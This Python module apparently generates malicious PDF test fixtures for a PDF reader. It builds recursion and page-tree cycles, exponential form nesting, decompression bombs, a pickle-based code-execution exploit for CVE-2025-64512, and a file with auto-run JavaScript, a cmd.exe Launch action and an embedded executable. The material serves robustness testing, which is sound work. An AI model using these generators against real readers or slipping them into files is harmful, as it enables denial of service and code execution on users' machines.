"""PDFs made to hurt whoever reads them; each is named after what it does, and written object by object."""

from __future__ import annotations

import gzip
import pickle
import zlib
from collections.abc import Mapping
from pathlib import Path

SAY = b"BT /F1 12 Tf 72 700 Td (Dit is een verslag van een gesprek met moeder.) Tj ET"
_HELVETICA = b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>"


def pdf(objects: Mapping[int, bytes], trailer: bytes = b"/Root 1 0 R") -> bytes:
    """A file with these objects; `trailer` may hold `@xref`, which becomes the place of the cross-reference table."""
    data = b"%PDF-1.7\n"
    offsets = {}
    for number, body in sorted(objects.items()):
        offsets[number] = len(data)
        data += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    start, size = len(data), max(objects) + 1
    data += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        data += b"%010d 00000 %s \n" % (offsets.get(number, 0), b"n" if number in offsets else b"f")
    data += b"trailer << /Size %d %s >>\n" % (size, trailer.replace(b"@xref", b"%d" % start))
    return data + b"startxref\n%d\n%%%%EOF" % start


def stream(content: bytes, *filters: bytes, more: bytes = b"") -> bytes:
    """A stream as it stands; `filters` names how the content is packed."""
    packed = b" ".join(b"/" + each for each in filters)
    return b"<< /Length %d /Filter [%s] %s >>\nstream\n%s\nendstream" % (len(content), packed, more, content)


def document(content: bytes = SAY, *filters: bytes, font: bytes = _HELVETICA, **more: bytes) -> dict[int, bytes]:
    """The objects of a sound file of one page; `catalog`, `page` and `resources` add to their dictionaries."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % more.get("catalog", b""),
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R"
        b" /Resources << /Font << /F1 5 0 R >> %s >> %s >>" % (more.get("resources", b""), more.get("page", b"")),
        4: stream(content, *filters),
        5: font,
    }


def sound() -> bytes:
    """Nothing wrong with it, so that the others differ in what they are named after and nothing else."""
    return pdf(document())


def tables_that_follow_each_other() -> bytes:
    """Row 6: the cross-reference table names itself as the one before."""
    return pdf(document(), b"/Root 1 0 R /Prev @xref")


def length_of_itself() -> bytes:
    """Row 6: the length of a stream is given by that stream."""
    return pdf({**document(), 4: b"<< /Length 4 0 R >>\nstream\n%s\nendstream" % SAY})


def pages_in_a_ring() -> bytes:
    """Row 6: the page tree contains itself."""
    return pdf({**document(), 2: b"<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 100000 /Parent 2 0 R >>"})


def form_that_draws_itself() -> bytes:
    """Row 6: a drawing that contains itself twice, so that every level doubles the work."""
    objects = document(SAY + b" /X Do", resources=b"/XObject << /X 6 0 R >>")
    form = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X 6 0 R >> >>"
    return pdf({**objects, 6: stream(b"/X Do /X Do", more=form)})


def forms_that_double(levels: int = 28) -> bytes:
    """Row 6: every drawing contains the next one twice: 2 to the power of `levels` drawings in two kilobytes."""
    objects = document(SAY + b" /X Do", resources=b"/XObject << /X 6 0 R >>")
    for level in range(6, 6 + levels):
        more = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842] /Resources << /XObject << /X %d 0 R >> >>"
        objects[level] = stream(b"/X Do /X Do", more=more % (level + 1))
    last = b"/Type /XObject /Subtype /Form /BBox [0 0 595 842]"
    objects[6 + levels] = stream(b"0 0 m 9 9 l S", more=last)
    return pdf(objects)


def deep_arrays(depth: int = 200_000) -> bytes:
    """Row 6: brackets within brackets, for a reader that calls itself."""
    return pdf({**document(), 6: b"[" * depth + b"]" * depth}, b"/Root 1 0 R /Info 6 0 R")


def _packed(block: bytes, times: int) -> bytes:
    """What Flate makes of the block that many times, written without packing it again and again.

    The checksum at the end is that of nothing; readers unpack everything before they would miss it.
    """
    packer = zlib.compressobj(9)
    head = packer.compress(b"") + packer.flush(zlib.Z_FULL_FLUSH)
    once = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    return head + once * times + packer.flush()


def flate_bomb(size: int = 3_000_000_000) -> bytes:
    """Row 7: a page that unpacks to gigabytes of drawing, packed twice."""
    block = b"0 0 m 9 9 l S\n" * 10_000
    return pdf(document(zlib.compress(_packed(block, size // len(block)), 9), b"FlateDecode", b"FlateDecode"))


def run_length_bomb(size: int = 2_000_000_000) -> bytes:
    """Row 7: the same trick with run lengths: two bytes become 128, in a layer of Flate."""
    runs = b"".join(b"\x00%c" % byte for byte in SAY)
    return pdf(document(_packed(runs + b"\x81 " * 10_000, size // 1_280_000), b"FlateDecode", b"RunLengthDecode"))


def many_pages(count: int = 10_000) -> bytes:
    """Row 8: as many pages as asked, all with text of their own place in the tree."""
    objects = document()
    kids = range(6, 6 + count)
    objects[2] = b"<< /Type /Pages /Kids [%s] /Count %d >>" % (b" ".join(b"%d 0 R" % kid for kid in kids), count)
    page = objects.pop(3)
    return pdf({**objects, **dict.fromkeys(kids, page)})


def endless_page(lines: int = 4_000_000) -> bytes:
    """Row 8: one page with more text than any person wrote."""
    line = b"BT /F1 12 Tf 72 400 Td (Dit is een verslag van een gesprek met moeder.) Tj ET\n"
    return pdf(document(_packed(line * 10_000, lines // 10_000), b"FlateDecode"))


class _Touch:
    """Unpickled, it makes a file: what any code could do."""

    def __init__(self, place: Path) -> None:
        self._place = place

    def __reduce__(self) -> tuple[object, ...]:
        return Path.touch, (self._place,)


def pickled_character_map(place: Path, touched: Path) -> bytes:
    """Row 9 (CVE-2025-64512): a font whose character map is a file of our own, which runs code when it is loaded.

    The map is written at `place`.pickle.gz; the ruled lines make the reader look for a table, where the fault was.
    """
    place.with_name(f"{place.name}.pickle.gz").write_bytes(gzip.compress(pickle.dumps(_Touch(touched))))
    name = b"".join(b"#%02x" % byte for byte in bytes(place))
    font = b"<< /Type /Font /Subtype /Type0 /BaseFont /X /Encoding /%s /DescendantFonts [6 0 R] >>" % name
    descendant = b"<< /Type /Font /Subtype /CIDFontType2 /BaseFont /X /CIDSystemInfo"
    descendant += b" << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>"
    boxes = b" ".join(b"72 %d 100 30 re 172 %d 100 30 re S" % (y, y) for y in (600, 630, 660))
    content = boxes + b" BT /F2 12 Tf 80 610 Td <00410042> Tj ET " + SAY
    objects = document(content)
    objects[3] = objects[3].replace(b"/F1 5 0 R", b"/F1 5 0 R /F2 7 0 R")
    return pdf({**objects, 6: descendant, 7: font})


def script_and_program(target: str) -> bytes:
    """Row 10: runs a script and starts a program when it is opened, and carries one along."""
    script = b"/OpenAction 6 0 R /AA << /O 7 0 R >> /Names << /JavaScript << /Names [(a) 6 0 R] >>"
    script += b" /EmbeddedFiles << /Names [(hulp.exe) 8 0 R] >> >>"
    url = target.encode("ascii")
    link = b"<< /S /URI /URI (%s) >>" % url
    return pdf(
        {
            **document(catalog=script),
            6: b"<< /S /JavaScript /JS (app.launchURL('%s', true);) >>" % url,
            7: b"<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> /Next %s >>" % link,
            8: b"<< /Type /Filespec /F (hulp.exe) /EF << /F 9 0 R >> >>",
            9: stream(b"MZ\x90\x00 program", more=b"/Type /EmbeddedFile"),
        }
    )
